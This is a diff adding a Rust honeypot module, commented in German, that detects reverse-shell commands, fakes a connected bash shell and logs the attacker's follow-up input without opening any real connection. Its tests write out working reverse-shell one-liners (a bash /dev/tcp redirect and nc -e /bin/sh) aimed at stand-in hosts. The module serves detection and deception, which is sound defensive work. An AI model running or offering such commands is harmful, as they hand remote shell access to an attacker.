@@ -0,0 +1,137 @@
+//! Fake Reverse Shell
+//!
+//! Erkennt Reverse-Shell-Commands (`bash -i >& /dev/tcp/host/port`, `nc -e`)
+//! und simuliert die Rückverbindung, damit der Angreifer seine
+//! Post-Exploitation-Commands an uns statt an seinen Listener schickt.
+//! Es wird nie eine echte ausgehende Verbindung aufgebaut.
+
+/// Ziel der angeforderten Rückverbindung
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ReverseShellTarget {
+    pub host: String,
+    pub port: u16,
+}
+
+/// Reverse-Shell-Command erkennen und Ziel extrahieren
+pub fn detect_reverse_shell(input: &str) -> Option<ReverseShellTarget> {
+    detect_dev_tcp(input).or_else(|| detect_netcat(input))
+}
+
+/// Bash-Redirect auf `/dev/tcp/<host>/<port>` bzw. `/dev/udp/...`
+fn detect_dev_tcp(input: &str) -> Option<ReverseShellTarget> {
+    let start = input
+        .find("/dev/tcp/")
+        .or_else(|| input.find("/dev/udp/"))?;
+    let mut parts = input[start + "/dev/tcp/".len()..].splitn(2, '/');
+
+    let host = parts.next()?;
+    let port: String = parts
+        .next()?
+        .chars()
+        .take_while(|c| c.is_ascii_digit())
+        .collect();
+
+    Some(ReverseShellTarget {
+        host: host.to_string(),
+        port: port.parse().ok()?,
+    })
+}
+
+/// `nc`/`ncat` mit `-e`/`-c` Programm: `nc -e /bin/sh <host> <port>`
+fn detect_netcat(input: &str) -> Option<ReverseShellTarget> {
+    let mut tokens = input.split_whitespace();
+    if !matches!(tokens.next()?, "nc" | "ncat" | "netcat") {
+        return None;
+    }
+
+    let mut executes = false;
+    let mut positional = Vec::new();
+    while let Some(token) = tokens.next() {
+        match token {
+            "-e" | "-c" => {
+                executes = true;
+                tokens.next();
+            }
+            flag if flag.starts_with('-') => {}
+            value => positional.push(value),
+        }
+    }
+
+    match (executes, positional.as_slice()) {
+        (true, [.., host, port]) => Some(ReverseShellTarget {
+            host: host.to_string(),
+            port: port.parse().ok()?,
+        }),
+        _ => None,
+    }
+}
+
+/// Simulierte "verbundene" Reverse Shell, erfasst alle Folge-Eingaben
+#[derive(Debug, Clone)]
+pub struct ReverseShellSink {
+    target: ReverseShellTarget,
+    captured: Vec<String>,
+}
+
+impl ReverseShellSink {
+    pub fn new(target: ReverseShellTarget) -> Self {
+        Self {
+            target,
+            captured: Vec::new(),
+        }
+    }
+
+    /// Ausgabe einer frisch verbundenen `bash -i` ohne Job Control
+    pub fn greeting(&self) -> &'static str {
+        "bash: cannot set terminal process group (1337): Inappropriate ioctl for device\n\
+         bash: no job control in this shell\n"
+    }
+
+    /// Eingabe des Angreifers erfassen
+    pub fn capture(&mut self, input: &str, session_id: &str) {
+        tracing::warn!(
+            "🐚 Reverse shell input for {}:{}: {} (Session: {})",
+            self.target.host,
+            self.target.port,
+            input,
+            session_id
+        );
+        self.captured.push(input.to_string());
+    }
+
+    /// Angefragtes Ziel
+    pub fn target(&self) -> &ReverseShellTarget {
+        &self.target
+    }
+
+    /// Erfasste Eingaben seit der Rückverbindung
+    pub fn captured(&self) -> &[String] {
+        &self.captured
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_detects_common_reverse_shells() {
+        let target = |host: &str, port| {
+            Some(ReverseShellTarget {
+                host: host.to_string(),
+                port,
+            })
+        };
+
+        assert_eq!(
+            detect_reverse_shell("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+            target("203.0.113.5", 4444)
+        );
+        assert_eq!(
+            detect_reverse_shell("nc -e /bin/sh evil.example 9001"),
+            target("evil.example", 9001)
+        );
+        assert_eq!(detect_reverse_shell("nc -zv 10.0.0.1 22"), None);
+        assert_eq!(detect_reverse_shell("cat /dev/tcp"), None);
+    }
+}